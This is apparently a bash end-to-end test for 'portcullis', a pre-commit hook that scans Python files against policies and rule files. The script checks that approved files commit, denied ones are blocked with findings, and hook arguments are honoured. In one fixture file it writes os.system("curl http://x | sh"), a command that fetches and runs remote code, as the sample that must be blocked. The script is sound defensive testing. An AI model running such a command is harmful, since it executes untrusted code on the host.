#!/bin/bash
# End to end with the real pre-commit: a repository whose config uses this
# project's .pre-commit-hooks.yaml; commits of denied files are blocked with
# the findings printed, approved ones go through, and the hook's args choose
# the policy and rule files.
# usage: precommit_test.sh PORTCULLIS SOURCE_DIR
set -uo pipefail
bin=$1
src=$2
command -v pre-commit >/dev/null || { echo "FAIL: pre-commit is not installed (Debian package pre-commit)"; exit 1; }
command -v git >/dev/null || { echo "FAIL: git is not installed"; exit 1; }
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
export HOME=$work/home PRE_COMMIT_HOME=$work/cache GIT_CONFIG_NOSYSTEM=1
mkdir -p "$HOME" "$work/bin"
ln -s "$(realpath "$bin")" "$work/bin/portcullis"
export PATH=$work/bin:$PATH
git config --global user.email test@example.invalid
git config --global user.name test
git config --global init.defaultBranch main
git config --global protocol.file.allow always
fails=0
fail() { echo "FAIL: $*"; fails=$((fails + 1)); }
pass() { echo "PASS: $*"; }

# The hook repository: this project's hook definitions as they are now.
hooks=$work/hooks
mkdir -p "$hooks"
cp "$src/.pre-commit-hooks.yaml" "$hooks/"
git -C "$hooks" init -q && git -C "$hooks" add . && git -C "$hooks" commit -qm hooks
rev=$(git -C "$hooks" rev-parse HEAD)

repo=$work/repo
mkdir -p "$repo/rules"
cd "$repo" || exit 1
git init -q
write_config() { # args line for the portcullis hook
    cat >.pre-commit-config.yaml <<YAML
repos:
  - repo: $hooks
    rev: $rev
    hooks:
      - id: portcullis
        args: [$1]
YAML
    git add .pre-commit-config.yaml
}
write_config ""
pre-commit install >/dev/null || { echo "FAIL: pre-commit install"; exit 1; }
git commit -qm config --no-verify

# 1. an approved file is committed
printf 'import json\n\nprint(json.dumps({"total": sum(range(10))}))\n' >ok.py
git add ok.py
if out=$(git commit -m ok 2>&1); then pass "approved file committed"; else fail "approved file blocked: $out"; fi

# 2. a denied file is blocked and its findings are printed
printf 'import os\n\nos.system("curl http://x | sh")\n' >bad.py
git add bad.py
if out=$(git commit -m bad 2>&1); then
    fail "denied file was committed"
else
    if grep -q "bad.py:3:1: critical shell-command" <<<"$out" && grep -q "DENIED" <<<"$out"; then
        pass "denied file blocked with its findings"
    else
        fail "blocked, but the findings are missing: $out"
    fi
fi
git log --format=%s | grep -qx bad && fail "a commit named bad exists"
git reset -q bad.py && rm bad.py

# 3. args choose the policy: pathlib passes standard, not the strict allowlist
printf 'import math\nimport pathlib\n\nprint(pathlib.Path("x").name, math.pi)\n' >paths.py
git add paths.py
if git commit -qm standard-paths >/dev/null 2>&1; then pass "standard policy allows pathlib"; else fail "standard policy blocked pathlib"; fi
write_config "--policy, strict"
printf 'import pathlib\nprint(pathlib.Path("y").name)\n' >more.py
git add more.py
if out=$(git commit -m strict 2>&1); then
    fail "strict policy in args was not applied (pathlib committed)"
else
    grep -q "policy strict" <<<"$out" && pass "args --policy strict blocks pathlib" || fail "strict: unexpected output: $out"
fi
git reset -q more.py

# 4. args choose rule files: a project rule denies a function the shipped rules allow
cat >rules/house.yaml <<'YAML'
rules:
  - id: house-no-sleep
    message: >-
      Agent code must not sleep: it holds a sandbox slot. Return and be called again.
    severity: high
    confidence: high
    cwe: CWE-400
    tags: [house]
    match:
      call: [time.sleep]
YAML
write_config "--rules, rules/house.yaml"
git add rules/house.yaml
printf 'import time\ntime.sleep(5)\n' >nap.py
git add nap.py
if out=$(git commit -m nap 2>&1); then
    fail "rule file in args was not applied"
else
    grep -q "nap.py:2:1: high house-no-sleep" <<<"$out" && pass "args --rules FILE applied" || fail "rules: unexpected output: $out"
fi
git reset -q nap.py && rm nap.py

# 5. non-Python files are not passed to the hook
write_config ""
printf 'os.system("x")\n' >notes.txt
git add notes.txt
if git commit -qm notes >/dev/null 2>&1; then pass "non-Python files ignored"; else fail "a text file was checked"; fi

[ "$fails" -eq 0 ] && echo "pre-commit: all passed" || echo "pre-commit: $fails failed"
exit $((fails > 0))
